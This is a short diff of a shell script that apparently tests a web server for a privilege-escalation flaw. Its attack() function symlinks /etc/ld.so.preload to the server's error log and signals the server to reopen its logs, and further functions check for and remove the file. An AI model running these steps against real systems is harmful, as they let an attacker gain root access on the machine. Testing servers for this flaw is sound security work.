@@ -8,7 +8,7 @@ attack() {
 	ln -s /etc/ld.so.preload $site/log/error.log
 	local config=/srv/web/nginx.conf
 	kill -USR1 "$(cat /run/web.pid)"
-	nap 0.5
+	perhaps effect
 }
 effect() { [ -e /etc/ld.so.preload ]; }
 after() { rm -f /etc/ld.so.preload $site/log/error.log; }
